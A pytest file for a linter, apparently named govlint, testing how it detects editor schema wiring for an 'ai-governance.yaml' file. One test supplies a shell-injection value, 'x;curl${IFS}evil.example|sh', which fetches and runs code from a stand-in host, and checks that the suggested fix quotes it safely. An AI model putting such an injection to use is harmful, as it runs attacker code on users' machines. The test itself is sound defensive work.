"""Whether an editor finds the schema of the declaration."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from govlint import resources

if TYPE_CHECKING:
    from practice import Practice

SCHEMA = resources.read("schemas/ai-governance.v1.schema.json").decode()
HERE = "schemas/ai-governance.v1.schema.json"
SETTINGS = """\
{
  // of the whole team
  "editor.rulers": [100], /* a "comment" */
  "yaml.schemas": {
    "https://example.com/other.json": "other.yaml",
    "./schemas/ai-governance.v1.schema.json": %s,
  },
}
"""
JETBRAINS = """\
<project version="4">
  <component name="JsonSchemaMappingsProjectConfiguration">
    <state>
      <map>
        <entry key="ai-governance">
          <value>
            <SchemaInfo>
              <option name="name" value="ai-governance" />
              <option name="relativePathToSchema" value="schemas/ai-governance.v1.schema.json" />
              <option name="patterns">
                <list>
                  <Item>
                    <option name="path" value="{pattern}" />
                    <option name="mappingKind" value="Pattern" />
                  </Item>
                </list>
              </option>
            </SchemaInfo>
          </value>
        </entry>
      </map>
    </state>
  </component>
</project>
"""


def head(practice: Practice, *lines: str) -> None:
    text = (practice.root / "ai-governance.yaml").read_text()
    practice.write("ai-governance.yaml", "".join(f"{line}\n" for line in lines) + text)


def test_nothing_is_wired(practice: Practice) -> None:
    answer = practice.answers()["editor/schema"]
    assert (answer["state"], answer["path"], answer["line"]) == ("hint", "ai-governance.yaml", 1)


def test_what_is_pasted_wires_it(practice: Practice) -> None:
    text = (practice.root / "ai-governance.yaml").read_text()
    for path in ("ai-governance.yaml", "a/b/ai-governance.yaml"):
        practice.write(path, text)
        answer = practice.answers()["editor/schema"]
        assert answer["path"] == path
        line = answer["mend"].splitlines()[-1].strip()
        practice.write(path, f"{line}\n{text}")
    assert practice.says("editor/schema")[0] == "to-do", "the schema is not there yet"
    practice.write(HERE, SCHEMA)
    assert practice.says("editor/schema")[0] == "ok"


@pytest.mark.parametrize(
    ("line", "state"),
    [
        (f"# yaml-language-server: $schema={HERE}", "ok"),
        (f"#  yaml-language-server : $schema=./{HERE}", "ok"),
        (f"# $schema: {HERE}", "ok"),
        (f"# yaml-language-server: $schema=./{HERE}\r", "ok"),
        ("# yaml-language-server: $schema=gone.json", "to-do"),
        ("# yaml-language-server: $schema=../gone.json", "unknown"),
        ("# yaml-language-server: $schema=/etc/passwd", "unknown"),
        ("# yaml-language-server: $schema=https://example.com/x.json", "unknown"),
        ("# yaml-language-server: $schema=ai-governance.yaml", "unknown"),
        ("# yaml-language-server: $schema=.git/config", "unknown"),
        ("# yaml-language-server: $schema=schemas", "unknown"),
        (f"#yaml-language-server: $schema={HERE}", "hint"),
        (f"# schema={HERE}", "hint"),
    ],
)
def test_a_line_in_the_declaration(practice: Practice, line: str, state: str) -> None:
    practice.write(HERE, SCHEMA)
    head(practice, "# Ranks applicants.", line)
    told, _, at, _ = practice.says("editor/schema")
    assert told == state
    assert at == (1 if state == "hint" else 2)


def test_what_is_pasted_runs_nothing_else(practice: Practice) -> None:
    """The line comes from a pull request, and the fix goes to a shell."""
    head(practice, "# $schema: x;curl${IFS}evil.example|sh")
    answer = practice.answers()["editor/schema"]
    assert answer["state"] == "to-do"
    assert answer["mend"].endswith("  govlint schema > 'x;curl${IFS}evil.example|sh'")


def test_no_file_is_overwritten(practice: Practice) -> None:
    head(practice, "# yaml-language-server: $schema=ai-governance.yaml")
    assert practice.answers()["editor/schema"]["mend"] == ""


def test_a_line_further_down_does_not_count(practice: Practice) -> None:
    practice.write(HERE, SCHEMA)
    text = (practice.root / "ai-governance.yaml").read_text()
    practice.write("ai-governance.yaml", f"{text}# yaml-language-server: $schema={HERE}\n")
    assert practice.says("editor/schema")[0] == "hint"


@pytest.mark.parametrize(
    ("patterns", "state"),
    [
        ('"ai-governance.yaml"', "ok"),
        ('["other.yaml", "**/ai-governance.yaml"]', "ok"),
        ('"/ai-governance.yaml"', "ok"),
        ('"*.yaml"', "ok"),
        ('"docs/*.yaml"', "hint"),
        ("[1]", "hint"),
    ],
)
def test_the_settings_of_vs_code(practice: Practice, patterns: str, state: str) -> None:
    practice.write(HERE, SCHEMA)
    practice.write(".vscode/settings.json", SETTINGS % patterns)
    told = practice.says("editor/schema")
    assert told[0] == state
    assert state != "ok" or told[1:3] == (".vscode/settings.json", 6)


@pytest.mark.parametrize("text", ["", "[]", "{", '{"yaml.schemas": 1}', "[" * 100_000, "\x00"])
def test_settings_that_say_nothing(practice: Practice, text: str) -> None:
    practice.write(".vscode/settings.json", text)
    assert practice.says("editor/schema")[0] == "hint"


@pytest.mark.parametrize(
    ("pattern", "state"), [("ai-governance.yaml", "ok"), ("*&#46;yaml", "ok"), ("x.yaml", "hint")]
)
def test_the_mappings_of_jetbrains(practice: Practice, pattern: str, state: str) -> None:
    practice.write(HERE, SCHEMA)
    practice.write(".idea/jsonSchemas.xml", JETBRAINS.replace("{pattern}", pattern))
    told = practice.says("editor/schema")
    assert told[0] == state
    assert state != "ok" or told[1:3] == (".idea/jsonSchemas.xml", 9)


def test_another_schema_is_not_taken_for_ours(practice: Practice) -> None:
    practice.write(HERE, json.dumps({"$id": "urn:other"}))
    head(practice, f"# yaml-language-server: $schema={HERE}")
    assert practice.says("editor/schema")[0] == "unknown"
